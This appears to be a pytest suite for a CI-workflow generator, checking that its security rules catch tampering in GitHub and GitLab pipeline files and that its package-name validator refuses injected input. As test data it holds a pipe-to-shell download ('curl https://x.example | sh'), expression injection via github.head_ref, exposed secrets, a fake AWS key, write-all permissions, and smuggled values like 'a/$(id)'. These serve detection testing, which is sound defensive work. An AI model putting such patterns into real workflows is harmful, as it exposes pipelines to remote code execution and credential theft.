"""Each attack on emitted workflows is found by its rule."""

import pytest

from cosgen.pipeline.commands import build_line, is_package_word
from cosgen.pipeline.drift import GeneratedFile, find_drift, header_of
from cosgen.pipeline.emit import emit_nodes
from cosgen.pipeline.limits import check_limits
from cosgen.pipeline.rules import RULES
from cosgen.pipeline.scene import Provider
from cosgen.pipeline.security import check_security
from tests.fakes.pipelines import X86, config, nodes, random_graph


def _files(provider: Provider, shape: str = "static") -> dict[str, str]:
    made = emit_nodes(config(), (X86,), nodes(), provider, version="1", shape=shape)
    return {file.path: file.text for file in made}


ATTACKS = [
    ("CG101", "cosgen-testing.yml", "run: pip install cosgen==1", 'run: "echo ${{ github.head_ref }}"'),
    ("CG102", "cosgen-request.yml", "pull_request: {}", "pull_request_target: {}"),
    ("CG103", "cosgen-testing.yml", "packages: write # keep", "packages: read # keep"),
    ("CG104", "cosgen-testing.yml", "persist-credentials: false", "persist-credentials: true"),
    ("CG105", "cosgen-testing.yml", "de0fac2e4500dabe0009e67214ff5f5447ce83dd", "v6"),
    (
        "CG106",
        "cosgen-testing.yml",
        "runs-on: ubuntu-24.04",
        "container: debian:13\n    runs-on: ubuntu-24.04",
    ),
    ("CG107", "cosgen-testing.yml", "actions/setup-python@", "actions/cache@"),
    ("CG108", "cosgen-testing.yml", "pattern: result-*", "run-id: 1\n          pattern: result-*"),
    ("CG109", "_cosgen-request-x86_64.yml", "--pull", "--pull --push"),
    (
        "CG110",
        "cosgen-request.yml",
        "COSGEN_MESSAGE: ",
        'X: "${{ secrets.KEY }}"\n          COSGEN_MESSAGE: ',
    ),
    ("CG111", "cosgen-testing.yml", "name: publish testing", "name: AKIAABCDEFGHIJKLMNOP"),
    ("CG112", "cosgen-testing.yml", "    environment:\n      name: testing\n", ""),
    ("CG113", "cosgen-request.yml", "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
    ("CG114", "cosgen-testing.yml", "!cancelled() && needs.gate", "github.actor == 'me' && needs.gate"),
    ("CG115", "cosgen-testing.yml", "!cancelled() && needs.gate", "always() && needs.gate"),
    ("CG116", "cosgen-testing.yml", "group: cosgen-publish-testing", 'group: "p-${{ github.ref }}"'),
    ("CG117", "cosgen-testing.yml", "    timeout-minutes: 20\n", ""),
    ("CG118", "cosgen-testing.yml", "run: pip install cosgen==1", 'run: "curl https://x.example | sh"'),
    ("CG119", "cosgen-testing.yml", "permissions: {}\nconcurrency", "permissions: write-all\nconcurrency"),
    ("CG120", "cosgen-testing.yml", "cosgen site build", "cosgen site bild"),
]


@pytest.mark.parametrize(("rule", "name", "old", "new"), ATTACKS, ids=[row[0] for row in ATTACKS])
def test_an_attack_on_a_workflow_is_found(rule: str, name: str, old: str, new: str) -> None:
    files = _files(Provider.GITHUB)
    path = f".github/workflows/{name}"
    assert old in files[path]
    files[path] = files[path].replace(old, new)
    found = check_security([GeneratedFile(*item) for item in files.items()], Provider.GITHUB, config())
    assert rule in {problem.id for problem in found}


GITLAB = [
    ("CG301", "request", "cosgen ci child", "cosgen publish --channel x && cosgen ci child"),
    ("CG303", "testing", "pip install cosgen==1", '"curl https://x.example | bash"'),
    ("CG305", "testing", "  resource_group: cosgen-publish-testing\n", ""),
    ("CG306", "testing", "  environment:\n    name: testing\n", ""),
    ("CG308", "testing", '  timeout: "20 minutes"\n', ""),
    ("CG304", "testing", '  timeout: "20 minutes"', '  image: debian:13\n  timeout: "20 minutes"'),
]


@pytest.mark.parametrize(("rule", "name", "old", "new"), GITLAB, ids=[row[0] for row in GITLAB])
def test_an_attack_on_gitlab_is_found(rule: str, name: str, old: str, new: str) -> None:
    files = _files(Provider.GITLAB, "child")
    path = f".gitlab/cosgen/cosgen-{name}.yml"
    assert old in files[path]
    files[path] = files[path].replace(old, new)
    found = check_security([GeneratedFile(*item) for item in files.items()], Provider.GITLAB, config())
    assert rule in {problem.id for problem in found}


def test_the_workers_file_is_small_for_ten_thousand_packages() -> None:
    many = nodes(random_graph(10_000, 1))
    for file in emit_nodes(config(), (X86,), many, Provider.GITHUB, version="1", shape="workers"):
        assert len(file.text.encode()) <= 10_240, file.path


@pytest.mark.parametrize("provider", list(Provider))
def test_ten_thousand_packages_fit_the_limits_in_chunks(provider: Provider) -> None:
    many = nodes(random_graph(10_000, 2))
    made = emit_nodes(config(), (X86,), many, provider, version="1", shape="chunks")
    assert not check_limits(made, provider, config())


def test_a_file_beyond_a_limit_is_found() -> None:
    big = GeneratedFile("x.yml", "jobs:\n  a:\n    name: " + "x" * 480_000 + "\n    steps: [a]\n")
    assert "CG201" in {problem.id for problem in check_limits([big], Provider.GITHUB, config())}
    circle = GeneratedFile("x.yml", "jobs: {a: {needs: b, steps: [x]}, b: {needs: a, steps: [x]}}")
    assert "CG206" in {problem.id for problem in check_limits([circle], Provider.GITHUB, config())}


def test_names_that_are_options_or_code_are_refused() -> None:
    assert is_package_word("system/grub2@2.06+1")
    for word in ("a/-rf", "a/$(id)", "a/b c", "a", "a/b;c", "a/b@$(x)"):
        assert not is_package_word(word)
    with pytest.raises(ValueError, match="plain"):
        build_line("build", "$(id)")
    with pytest.raises(ValueError, match="no option"):
        build_line("build", options=[("--nope", "")])


def test_drift_names_what_is_missing_changed_and_stale() -> None:
    head = f"# {header_of('github', '1', {})[0]}\n"
    files = [GeneratedFile("a.yml", f"{head}a: 1\n"), GeneratedFile("b.yml", f"{head}b: 1\n")]
    found = find_drift(files, {"b.yml": f"{head}b: 2\n", "c.yml": head, "own.yml": "x: 1\n"})
    assert [(drift.path, drift.kind) for drift in found] == [
        ("a.yml", "missing"),
        ("b.yml", "changed"),
        ("c.yml", "stale"),
    ]
    assert "-b: 2\n+b: 1\n" in found[1].diff


def test_every_rule_says_why_and_what_to_do() -> None:
    assert all(rule.title and rule.why and rule.fix for rule in RULES.values())
